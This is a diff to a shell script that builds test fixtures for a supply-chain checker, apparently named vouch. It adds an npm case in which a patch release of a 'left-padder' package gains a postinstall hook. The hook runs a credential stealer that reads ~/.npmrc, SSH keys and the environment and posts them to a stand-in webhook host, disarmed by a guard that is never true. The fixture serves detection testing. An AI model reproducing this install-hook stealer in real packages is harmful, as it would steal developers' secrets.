@@ -369,6 +369,120 @@ X
 	msi bad 1.0.1 0101 2024-02-06 "$corpus/$c/bad/TinyApp-1.0.1.msi"
 }
 
+# --- npm -------------------------------------------------------------------------
+# npmpack DIR OUTDIR: npm pack DIR into OUTDIR (npm fixes member times, so
+# the tarball is reproducible), without touching the user's npm cache.
+npmpack() {
+	(cd "$1" && npm pack --silent --cache "$work/npm-cache" --pack-destination "$2" >/dev/null)
+}
+
+# =============================================================================
+# 2. npm-install-hook: a patch release gains a postinstall hook running a new
+# file that harvests credentials and the environment for a webhook host.
+# =============================================================================
+case_npm_install_hook() {
+	local c=npm-install-hook w=$work/npm-install-hook
+	reset $c
+	mkdir -p "$w"
+	# pkg DIR VERSION [SCRIPTS-JSON]
+	pkg() {
+		mkdir -p "$1/lib"
+		cat >"$1/package.json" <<JSON
+{
+  "name": "left-padder",
+  "version": "$2",
+  "description": "Pad the left side of a string (inert test fixture)",
+  "main": "index.js",
+  "files": ["index.js", "lib/"],${3:-}
+  "keywords": ["pad", "string", "left"],
+  "author": "Left Padder Maintainers <maintainers@left-padder.invalid>",
+  "license": "MIT",
+  "repository": {"type": "git", "url": "https://git.left-padder.invalid/left-padder.git"}
+}
+JSON
+		printf '# left-padder\n\nPads the left side of a string. An inert test fixture of vouch.\n' >"$1/README.md"
+		printf 'MIT License\n\nCopyright (c) 2024 Left Padder Maintainers (inert test fixture)\n' >"$1/LICENSE"
+		cat >"$1/index.js" <<'JS'
+'use strict';
+
+const { repeat } = require('./lib/repeat');
+
+/**
+ * Pads str on the left with ch until it is len characters long.
+ */
+function leftPad(str, len, ch) {
+  str = String(str);
+  ch = ch === undefined ? ' ' : String(ch);
+  const missing = len - str.length;
+  if (missing <= 0) return str;
+  return repeat(ch, missing) + str;
+}
+
+module.exports = leftPad;
+JS
+		cat >"$1/lib/repeat.js" <<'JS'
+'use strict';
+
+function repeat(ch, n) {
+  let out = '';
+  while (out.length < n) out += ch;
+  return out;
+}
+
+module.exports = { repeat };
+JS
+	}
+	pkg "$w/clean" 1.4.2
+	# 1.4.3: an empty pad character no longer loops forever.
+	pkg "$w/next" 1.4.3
+	sed -i "s/  ch = ch === undefined ? ' ' : String(ch);/  ch = ch === undefined || ch === '' ? ' ' : String(ch);/" "$w/next/index.js"
+	pkg "$w/bad" 1.4.3 '
+  "scripts": {
+    "postinstall": "node lib/setup.js"
+  },'
+	cp "$w/next/index.js" "$w/bad/index.js"
+	cat >"$w/bad/lib/setup.js" <<'JS'
+'use strict';
+// Inert test fixture of vouch: the shape of an npm credential stealer. The
+// guard below is never true (environment values are always strings), so
+// nothing is read and nothing is sent.
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const https = require('https');
+
+function collect() {
+  const home = os.homedir();
+  const read = (p) => { try { return fs.readFileSync(p, 'utf8'); } catch (e) { return ''; } };
+  return JSON.stringify({
+    host: os.hostname(),
+    user: os.userInfo().username,
+    npmrc: read(path.join(home, '.npmrc')),
+    ssh: read(path.join(home, '.ssh', 'id_rsa')),
+    env: process.env,
+  });
+}
+
+function send(body) {
+  const req = https.request({
+    hostname: 'webhook.site.invalid',
+    path: '/6f1c2a9e-0b7d-4c3e-9a51-2d8e7f4b1c06',
+    method: 'POST',
+    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
+  });
+  req.on('error', () => {});
+  req.end(body);
+}
+
+if (typeof process.env.npm_lifecycle_event === 'number') {
+  send(collect());
+}
+JS
+	local rel
+	for rel in clean next bad; do npmpack "$w/$rel" "$corpus/$c/$rel"; done
+}
+
 want 3cx-windows && case_3cx_windows
+want npm-install-hook && case_npm_install_hook
 
 ls -lR "$corpus" | grep -v '^total' >"$work/listing" && du -sh --exclude=tools "$corpus"
